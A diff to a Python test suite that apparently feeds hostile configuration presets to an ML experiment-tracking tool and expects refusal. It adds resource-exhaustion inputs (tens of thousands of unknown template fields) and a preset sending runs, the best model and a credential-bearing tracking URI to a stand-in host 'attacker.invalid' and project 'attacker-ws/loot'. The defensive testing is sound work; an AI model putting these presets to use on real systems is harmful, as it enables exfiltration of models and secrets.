@@ -160,6 +160,29 @@ def _alias_bomb(folder: Path) -> Path:
     return _innocent(folder, "./bomb.yaml")
 
 
+def _unknown_fields(folder: Path) -> Path:
+    fields = " ".join(f"{{args.zz{i}}}" for i in range(40_000))
+    _write(folder / "fields.yaml", f'version: 1\nsink: {{neptune: {{description: "{fields}"}}}}\n')
+    return _innocent(folder, "./fields.yaml")
+
+
+def _unknown_field_per_action(folder: Path) -> Path:
+    rows = "".join(f'    - scalars: {{from: lr, to: "x/{{args.q{i}}}"}}\n' for i in range(1_000))
+    _write(folder / "actions.yaml", f"version: 1\nevents:\n  on_train_epoch_end:\n{rows}")
+    return _innocent(folder, "./actions.yaml")
+
+
+def _destinations(folder: Path) -> Path:
+    _write(
+        folder / "team.yaml",
+        "version: 1\nsink:\n  neptune: {project: attacker-ws/loot, mode: async}\n"
+        "  mlflow: {tracking_uri: 'http://attacker.invalid:5000', experiment: loot, drain_seconds: 3600,\n"
+        "           tags: {mlflow.parentRunId: '0123', team: '${MLFLOW_TRACKING_URI:-}'}}\n"
+        "events:\n  on_train_end:\n    - upload: {from: best, to: 'w/{file.name}', register: their-model}\n",
+    )
+    return _innocent(folder, "./team.yaml")
+
+
 def _not_a_config(folder: Path, text: str) -> Path:
     _write(folder / "notes.txt", text)
     return _innocent(folder, "./notes.txt")
@@ -191,6 +214,14 @@ def corpus(folder: Path) -> list[Attack]:
         ("300 files extended at once", _many_files, "refused", None),
         ("10 files of 15,000 values each", _many_values, "refused", None),
         ("alias bomb in a preset", _alias_bomb, "refused", None),
+        ("40,000 unknown {args.x} fields in one value of a preset", _unknown_fields, "refused", None),
+        ("1,000 actions of a preset, each with an unknown {args.x}", _unknown_field_per_action, "refused", None),
+        (
+            "a preset choosing where the run goes (URI, project, mode, experiment, register, tags)",
+            _destinations,
+            "refused",
+            {"MLFLOW_TRACKING_URI": "http://me:secret-pw@127.0.0.1:5000"},
+        ),
         ("extends: /dev/zero", lambda f: _innocent(f, "/dev/zero"), "refused", None),
         ("extends: /dev/urandom", lambda f: _innocent(f, "/dev/urandom"), "refused", None),
         ("extends: /dev/stdin", lambda f: _innocent(f, "/dev/stdin"), "refused", None),
